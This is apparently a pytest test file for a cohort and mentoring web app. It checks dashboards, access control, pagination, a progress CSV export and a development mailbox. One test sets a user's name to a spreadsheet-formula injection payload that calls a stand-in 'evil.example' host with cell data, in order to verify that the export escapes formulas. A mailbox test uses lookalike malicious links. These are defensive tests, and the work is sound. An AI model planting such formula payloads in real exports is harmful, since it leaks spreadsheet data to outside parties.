"""The first page, the desks, the organiser's page of a cohort, and the mailbox."""

import csv
import html
import io
import re
from collections.abc import Callable
from datetime import timedelta
from typing import Any
from uuid import uuid4

import pytest
from httpx import ASGITransport, AsyncClient
from sqlalchemy.ext.asyncio import AsyncSession

from cohort.app import create_app
from cohort.cohorts.models import Cohort, CohortState
from cohort.mail import MailboxMessage
from cohort.mentors.models import MentorState
from cohort.people.models import Person
from cohort.settings import Settings
from cohort.study.models import Submission
from tests import world
from tests.conftest import Cast, Someone, TurnableClock
from tests.rooms.dashboard_world import a_spring, failed_in, planned


async def a_crowd(
    db: AsyncSession, cohort: Cohort, clock: TurnableClock, many: int, name: str = "Person"
) -> None:
    cohort.seats += many
    for number in range(many):
        person = Person(
            id=uuid4(),
            email=f"{name.lower()}{number}@example.org",
            name=f"{name} {number:03}",
            created_at=clock.now,
        )
        db.add(person)
        await db.flush()
        enrolment = await world.enrolled(db, cohort, person, now=clock.now)
        await planned(db, enrolment, clock, passed=number % 4)
    await db.commit()


async def test_a_visitor_is_told_what_this_is(anyone: AsyncClient) -> None:
    front = await anyone.get("/")
    assert front.status_code == 200
    for href in ("/join", "/mentors/join", "/login"):
        assert f'href="{href}"' in front.text


async def test_a_newcomer_is_told_where_to_begin(enter: Cast) -> None:
    desk = await (await enter("Nell")).get("/")
    assert "Where to begin" in desk.text
    assert 'href="/cohorts"' in desk.text


async def test_who_may_open_cohorts_on_an_empty_platform_is_led_to_her_guide_first(
    enter: Cast,
) -> None:
    jo = await enter("Jo", admin=True)
    for path in ("/", "/cohorts", "/cohorts/new"):
        assert 'href="/curricula/new"' in (await jo.get(path)).text
    desk = (await jo.get("/")).text
    assert desk.index("Open a cohort") < desk.index("Study or mentor")
    assert 'name="starts_on"' not in (await jo.get("/cohorts/new")).text


async def test_a_desk_shows_what_waits_for_a_researcher_and_her_mentor(
    enter: Cast, db: AsyncSession, clock: TurnableClock
) -> None:
    olga, rita, mona = await enter("Olga"), await enter("Rita"), await enter("Mona")
    cohort = await a_spring(db, olga, clock)
    enrolment = await world.enrolled(db, cohort, rita.person, now=clock.now)
    await planned(db, enrolment, clock, passed=1)
    mentor = await world.mentoring(db, cohort, mona.person, now=clock.now)
    await world.proposed(db, enrolment, mentor, now=clock.now)
    await db.commit()

    hers, his = (await rita.get("/")).text, (await mona.get("/")).text

    assert "A mentor is proposed to you: Mona Example" in hers
    assert "1 of 3" in hers
    assert "Drift Monitor" in hers
    assert f'href="/plan/{enrolment.id}"' in hers
    assert "1 person awaits your answer" in his
    assert "Cohorts you organise" not in hers + his


async def test_an_organisers_desk_names_what_waits_in_each_cohort(
    enter: Cast, db: AsyncSession, clock: TurnableClock
) -> None:
    clock.turn(weeks=6)
    olga, petra = await enter("Olga"), await enter("Petra")
    cohort = await a_spring(db, olga, clock)
    await world.mentoring(db, cohort, petra.person, now=clock.now, state=MentorState.PENDING)
    await db.commit()
    await failed_in(db, cohort.id, clock)

    desk = (await olga.get("/")).text

    assert "week 7 of 16" in desk
    assert "1 mentor awaits your decision" in desk
    assert "1 piece of work failed" in desk


async def test_only_organisers_see_the_desk_of_a_cohort_others_see_its_door(
    enter: Cast, anyone: AsyncClient, db: AsyncSession, clock: TurnableClock
) -> None:
    olga, rita, mona = await enter("Olga"), await enter("Rita"), await enter("Mona")
    stranger, other = await enter("Stranger"), await enter("Other")
    cohort = await a_spring(db, olga, clock)
    enrolment = await world.enrolled(db, cohort, rita.person, now=clock.now)
    await world.mentoring(db, cohort, mona.person, now=clock.now)
    guide = await world.a_guide(db, now=clock.now, slug="other")
    await world.a_cohort(db, guide, other.person, now=clock.now, slug="other")
    await db.commit()

    assert "Rita Example" in (await olga.get("/cohorts/spring/people")).text
    for one in (rita, mona, stranger, other):
        seen = await one.get("/cohorts/spring")
        assert seen.status_code == 200
        assert "At a glance" in seen.text
        # Her own name stands in the head of every page.
        assert "Rita Example" not in seen.text or one is rita
        assert "Mona Example" not in seen.text or one is mona
        assert (await one.get("/cohorts/spring/progress.csv")).status_code == 403
    assert f"/plan/{enrolment.id}" in (await rita.get("/cohorts/spring")).text
    assert "/cohorts/spring/enrol" in (await stranger.get("/cohorts/spring")).text
    assert (await anyone.get("/cohorts/spring")).headers["location"].startswith("/login")
    assert (await olga.get("/cohorts/nowhere")).status_code == 404


async def test_a_draft_is_hidden_from_all_but_its_organisers(
    enter: Cast, db: AsyncSession, clock: TurnableClock
) -> None:
    olga, rita = await enter("Olga"), await enter("Rita")
    guide = await world.a_guide(db, now=clock.now)
    await world.a_cohort(db, guide, olga.person, now=clock.now, state=CohortState.DRAFT)
    await db.commit()

    assert (await rita.get("/cohorts/spring")).status_code == 404
    assert "No round yet" in (await olga.get("/cohorts/spring")).text
    assert "No researchers yet" in (await olga.get("/cohorts/spring/people")).text
    assert "No mentors yet" in (await olga.get("/cohorts/spring/mentors")).text


async def test_the_cohorts_are_listed_page_by_page_without_those_that_are_hidden(
    enter: Cast, db: AsyncSession, clock: TurnableClock
) -> None:
    olga, rita = await enter("Olga"), await enter("Rita")
    assert "No cohort is open yet" in (await rita.get("/cohorts")).text
    guide = await world.a_guide(db, now=clock.now)
    for slug, state in (("one", "open"), ("two", "running"), ("draft", "draft")):
        await world.a_cohort(db, guide, olga.person, now=clock.now, slug=slug, state=state)
    await db.commit()

    def listed(page: str) -> set[str]:
        return set(re.findall(r'<a href="/cohorts/(\w+)">', page))

    assert listed((await rita.get("/cohorts")).text) == {"one", "two"}
    first = (await olga.get("/cohorts?limit=2")).text
    [onward] = re.findall(r'href="(/cohorts\?cursor=[^"]+)"', first)
    assert listed(first) | listed((await olga.get(onward)).text) == {"one", "two", "draft"}


async def test_two_hundred_people_take_as_many_statements_as_two(
    enter: Cast, db: AsyncSession, clock: TurnableClock, count_statements: Callable[[], Any]
) -> None:
    olga = await enter("Olga")
    cohort = await a_spring(db, olga, clock)
    await a_crowd(db, cohort, clock, 2, "Early")
    async with count_statements() as few:
        await olga.get("/cohorts/spring")
    async with count_statements() as few_at_home:
        await olga.get("/")

    await a_crowd(db, cohort, clock, 200)

    async with count_statements() as many:
        page = await olga.get("/cohorts/spring")
    async with count_statements() as many_at_home:
        await olga.get("/")
    assert len(many) == len(few)
    assert len(many_at_home) == len(few_at_home)
    assert len(many) <= 15
    assert "202" in page.text


async def test_a_full_page_of_people_takes_as_many_statements_as_two_of_them(
    enter: Cast, db: AsyncSession, clock: TurnableClock, count_statements: Callable[[], Any]
) -> None:
    olga = await enter("Olga")
    cohort = await a_spring(db, olga, clock)
    await a_crowd(db, cohort, clock, 2, "Early")
    async with count_statements() as few:
        await olga.get("/cohorts/spring/people")
    await a_crowd(db, cohort, clock, 30)
    async with count_statements() as many:
        await olga.get("/cohorts/spring/people")
    assert len(many) == len(few) <= 9


async def test_a_list_keeps_its_filters_from_page_to_page(
    enter: Cast, db: AsyncSession, clock: TurnableClock
) -> None:
    olga = await enter("Olga")
    cohort = await a_spring(db, olga, clock)
    await a_crowd(db, cohort, clock, 60)

    for sort in ("name", "progress", "-late", "handed_in_at", "-created_at"):
        seen: list[str] = []
        address = f"/cohorts/spring/people?q=person+0&matching=waiting&sort={sort}"
        while address:
            page = (await olga.get(address)).text
            seen += re.findall(r'role="rowheader" scope="row"><a [^>]*>(Person \d+)</a>', page)
            onward = re.search(r'href="([^"]+cursor=[^"]+)"', page)
            address = html.unescape(onward[1]) if onward else ""
        assert sorted(seen) == [f"Person {number:03}" for number in range(60)]
        assert 'value="person 0"' in page
        assert "Back to the start" in page


async def test_a_list_says_in_words_when_nobody_fits_and_what_was_wrong(
    enter: Cast, db: AsyncSession, clock: TurnableClock
) -> None:
    olga = await enter("Olga")
    cohort = await a_spring(db, olga, clock)
    await a_crowd(db, cohort, clock, 4)
    for page in ("people", "mentors"):
        nobody = await olga.get(f"/cohorts/spring/{page}?q=zzz")
        assert "fits all of this" in nobody.text
        assert f'href="/cohorts/spring/{page}">Show everyone' in nobody.text
        wrong = await olga.get(f"/cohorts/spring/{page}?sort=salary&matching=")
        assert wrong.status_code == 422
        assert 'href="#field-sort"' in wrong.text
        empty = await olga.get(f"/cohorts/spring/{page}?q=&sort=name&late=&domain=&free=&paused=")
        assert "Show everyone" not in empty.text


async def test_those_behind_come_first_when_asked_so(
    enter: Cast, db: AsyncSession, clock: TurnableClock
) -> None:
    olga = await enter("Olga")
    cohort = await a_spring(db, olga, clock)
    await a_crowd(db, cohort, clock, 4)
    page = (await olga.get("/cohorts/spring/people?sort=progress")).text
    assert re.findall(r'rowheader" scope="row"><a [^>]*>Person (\d+)', page)[0] == "000"


async def test_progress_is_shown_and_late_work_is_named(
    enter: Cast, db: AsyncSession, clock: TurnableClock
) -> None:
    olga, rita = await enter("Olga"), await enter("Rita")
    cohort = await a_spring(db, olga, clock)
    enrolment = await world.enrolled(db, cohort, rita.person, now=clock.now)
    items = await planned(db, enrolment, clock, passed=1)
    evidence = {"text": "Done.", "links": [], "submitted_at": clock.now}
    db.add(Submission(id=uuid4(), plan_item_id=items[0].id, version=1, **evidence))
    items[1].due_at = clock.now - timedelta(minutes=1)
    await db.commit()

    page = (await olga.get("/cohorts/spring/people")).text

    assert "1 of 3" in page
    assert "1 overdue" in page
    assert "Mon 2 Mar 2026" in page


async def test_the_table_for_spreadsheets_has_everyone_and_runs_no_formula(
    enter: Cast, db: AsyncSession, clock: TurnableClock
) -> None:
    olga = await enter("Olga")
    cohort = await a_spring(db, olga, clock)
    await a_crowd(db, cohort, clock, 220)
    mallory = await enter("Mallory")
    evil = await db.get_one(Person, mallory.person.id)
    evil.name = '=HYPERLINK("http://evil.example?"&A1,"me")'
    await world.enrolled(db, cohort, evil, now=clock.now)
    await db.commit()

    moved = await olga.get("/cohorts/spring/progress.csv")
    assert moved.status_code == 301
    sent = await olga.get(moved.headers["location"])

    assert sent.headers["content-type"].startswith("text/csv")
    assert "attachment" in sent.headers["content-disposition"]
    head, *rows = list(csv.reader(io.StringIO(sent.content.decode("utf-8-sig"))))
    assert len(rows) == 221
    assert head[:4] == ["Researcher", "E-mail", "Stage", "Mentor"]
    assert head[-2:] == ["1 Bridging (%)", "2 Preparation (%)"]
    by_name = {row[0]: row for row in rows}
    assert by_name["Person 001"][-2:] == ["50", "0"]
    assert f"'{evil.name}" in by_name
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


async def test_failed_work_is_named_and_the_button_tries_again(
    enter: Cast, db: AsyncSession, clock: TurnableClock
) -> None:
    olga, rita = await enter("Olga"), await enter("Rita")
    cohort = await a_spring(db, olga, clock)
    job = await failed_in(db, cohort.id, clock)
    page = (await olga.get("/cohorts/spring")).text
    assert "The mail with a link to a new password" in page
    [button] = re.findall(r'action="(/jobs/[^"]+)"', page)

    assert (await rita.post(button)).status_code == 404
    tried = await olga.post(button)
    again = await olga.post(button)

    assert (tried.status_code, tried.headers["location"]) == (303, "/cohorts/spring")
    assert again.status_code == 303
    await db.refresh(job)
    assert job.state == "pending"
    assert "The mail with a link to a new password" not in (await olga.get("/cohorts/spring")).text


async def test_an_admin_sees_what_failed_for_no_cohort(
    enter: Cast, db: AsyncSession, clock: TurnableClock
) -> None:
    root, rita = await enter("Root", admin=True), await enter("Rita")
    await failed_in(db, None, clock)
    assert "The mail with a link to a new password" in (await root.get("/")).text
    assert "The mail with a link to a new password" not in (await rita.get("/")).text


async def test_a_round_is_opened_solved_and_seen_on_the_page_of_its_cohort(
    enter: Cast, db: AsyncSession, clock: TurnableClock, run_jobs: Callable[[], Any]
) -> None:
    olga, rita, mona = await enter("Olga"), await enter("Rita"), await enter("Mona")
    cohort = await a_spring(db, olga, clock)
    await world.enrolled(db, cohort, rita.person, now=clock.now)
    await world.mentoring(db, cohort, mona.person, now=clock.now)
    await db.commit()
    assert "No round yet" in (await olga.get("/cohorts/spring")).text

    opened = await olga.post("/cohorts/spring/rounds")
    await run_jobs()
    page = (await olga.get("/cohorts/spring")).text

    assert f'href="{opened.headers["location"]}"' in page
    assert "no other assignment can be better" in page
    assert f'action="{opened.headers["location"]}/publication"' in page
    assert "A round of matching is not published yet" in page
    assert "A round is not published yet" in (await olga.get("/")).text
    assert "Round" not in (await rita.get("/cohorts/spring")).text


async def written(db: AsyncSession, clock: TurnableClock, text: str) -> MailboxMessage:
    letter = MailboxMessage(
        id=uuid4(), to="ada@example.org", subject="Hello", text=text, html="", sent_at=clock.now
    )
    db.add(letter)
    await db.commit()
    return letter


async def test_the_mailbox_shows_mail_as_text_and_links_to_our_own_pages_only(
    anyone: AsyncClient, db: AsyncSession, clock: TurnableClock
) -> None:
    assert "No mail yet" in (await anyone.get("/mailbox")).text
    ours, theirs = "http://127.0.0.1:8000/verify/abc", "http://evil.example/http://127.0.0.1:8000"
    text = f"<b>Open</b> {ours}.\nNot http://127.0.0.1:8000@evil.example or {theirs}x"
    letter = await written(db, clock, text)

    assert f'href="/mailbox/{letter.id}"' in (await anyone.get("/mailbox")).text
    page = (await anyone.get(f"/mailbox/{letter.id}")).text

    body = page.split('class="letter">')[1].split("</div>")[0]
    assert f'<a href="/verify/abc">{ours}</a>.' in body
    assert "&lt;b&gt;Open" in body
    assert body.count("<a ") == 1
    assert "Its links are for ada@example.org" in page
    assert (await anyone.get(f"/mailbox/{uuid4()}")).status_code == 404


async def test_the_mailbox_has_pages_and_each_letter_stands_on_one_of_them(
    anyone: AsyncClient, db: AsyncSession, clock: TurnableClock
) -> None:
    letters = {str((await written(db, clock, "Hello.")).id) for _ in range(26)}
    first = (await anyone.get("/mailbox")).text
    further = re.findall(r'href="(/mailbox\?cursor=[^"]+)"', first)
    second = (await anyone.get(html.unescape(further[0]))).text
    shown = [re.findall(r'href="/mailbox/([^"]+)"', one) for one in (first, second)]
    assert [len(one) for one in shown] == [25, 1]
    assert {*shown[0], *shown[1]} == letters
    assert "Back to the start" in second


@pytest.mark.parametrize("changes", [{"development": False}, {"smtp_url": "smtp://localhost:1"}])
async def test_there_is_no_mailbox_where_mail_is_sent(
    settings: Settings, db: AsyncSession, clock: TurnableClock, changes: dict[str, Any]
) -> None:
    letter = await written(db, clock, "A secret link.")
    app = create_app(settings.model_copy(update=changes), clock=clock)
    async with (
        app.lifespan(),
        AsyncClient(transport=ASGITransport(app), base_url="http://127.0.0.1:8000") as client,
    ):
        assert (await client.get("/mailbox")).status_code == 404
        assert (await client.get(f"/mailbox/{letter.id}")).status_code == 404
        assert "Mailbox" not in (await client.get("/")).text


async def test_the_parts_of_pages_are_shown(anyone: AsyncClient, enter: Cast) -> None:
    assert (await anyone.get("/design")).status_code == 200
    someone: Someone = await enter("Nell")
    assert (await someone.get("/design")).status_code == 200
